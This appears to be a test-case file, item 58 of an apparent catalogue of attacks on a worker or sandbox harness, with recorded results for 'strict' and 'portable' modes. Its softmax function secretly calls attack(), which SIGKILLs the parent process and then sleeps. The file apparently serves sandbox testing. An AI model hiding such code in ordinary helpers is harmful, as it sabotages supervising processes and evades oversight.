"""Kill the process that ends the daemons of a worker.

catalogue  58
strict     error: CALL raised PermissionError: [Errno 1] Operation not permitted...
portable   no report
"""

import os
import signal
import time

import numpy as np


def attack():
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(600)


def softmax(x):
    attack()
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
